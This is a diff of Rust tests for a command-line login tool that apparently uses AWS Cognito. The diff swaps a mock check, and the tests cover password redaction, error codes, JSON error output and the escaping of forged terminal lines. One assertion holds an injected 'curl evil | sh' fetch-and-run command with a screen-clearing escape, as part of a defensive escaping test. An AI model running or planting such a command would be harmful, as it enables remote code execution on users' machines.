@@ -198,7 +198,7 @@ fn refusals_have_their_codes_causes_and_help() {
         assert!(!ran.to_string().contains("p4ssword"), "{ran}");
         report.push_str(&ran.to_string());
         report.push('\n');
-        cognito.calls();
+        cognito.expect_done();
     }
     expect_file!["exit_codes.txt"].assert_eq(&report);
 }
@@ -227,7 +227,7 @@ fn the_type_is_found_in_each_of_its_places() {
             ran.to_string().contains("(UserNotConfirmedException)"),
             "{ran}"
         );
-        cognito.calls();
+        cognito.expect_done();
     }
 }
 
@@ -260,7 +260,7 @@ fn errors_can_be_one_line_of_json() {
         }
     "#]]
     .assert_eq(&format!("{error:#}\n"));
-    cognito.calls();
+    cognito.expect_done();
 
     for line in [
         vec!["login", "--error-format", "json"],
@@ -294,5 +294,5 @@ fn a_message_cannot_forge_lines_or_colours() {
         text.contains(r"no\u000a   help: curl evil | sh\u001b[2J"),
         "{text}"
     );
-    cognito.calls();
+    cognito.expect_done();
 }
